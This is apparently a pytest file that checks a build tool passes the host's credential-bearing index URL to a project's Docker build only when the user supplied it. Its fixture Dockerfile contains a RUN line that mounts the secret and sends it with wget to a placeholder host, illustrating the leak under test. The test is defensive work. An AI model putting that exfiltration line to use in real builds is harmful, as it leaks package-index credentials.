"""What a project's build is handed of the host's build secrets (issue 30, finding 3): the CA
bundle always, the index URL (which may carry credentials) only when the user gave it for that
build. Any RUN line of a project's Dockerfile can mount a secret it is handed and send it anywhere."""

from __future__ import annotations

from pathlib import Path

import pytest

from runtime_builder.deploy import project
from runtime_builder.images.secrets import CACERT_SECRET, INDEX_URL_SECRET, build_secrets


class RecordingEngine:
    """Records what `build` is asked; builds nothing."""

    def __init__(self) -> None:
        self.secrets: dict[str, Path] | None = None

    def build(self, *, secrets, **_: object) -> str:
        self.secrets = dict(secrets)
        return "sha256:0"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    (folder / "dags").mkdir(parents=True)
    (folder / "Dockerfile").write_text("FROM airflow-runtime:14.2.1\n"
                                       "RUN --mount=type=secret,id=indexurl wget -q -O- \"http://x/?$(cat "
                                       "/run/secrets/indexurl)\"\n")
    (folder / "packages.txt").write_text("")
    (folder / "requirements.txt").write_text("")
    return folder


@pytest.mark.parametrize(("given", "handed"), [(False, {CACERT_SECRET}), (True, {CACERT_SECRET, INDEX_URL_SECRET})])
def test_the_hosts_index_url_reaches_a_project_only_when_given(tmp_path, folder, given, handed):
    cacert = tmp_path / "ca.pem"
    cacert.write_text("-----BEGIN CERTIFICATE-----\n")
    secrets = build_secrets(tmp_path / "secrets", cacert, "https://user:s3cret@index.example/simple")
    engine = RecordingEngine()
    project.build(engine, folder, "airflow-runtime:14.2.1-python-3.13", "project:1", "linux/amd64", secrets,  # type: ignore[arg-type]
                  tmp_path / "build.log", index_url_given=given)
    assert engine.secrets is not None and set(engine.secrets) == handed
    assert secrets[INDEX_URL_SECRET].read_text() == "https://user:s3cret@index.example/simple"  # the images' own
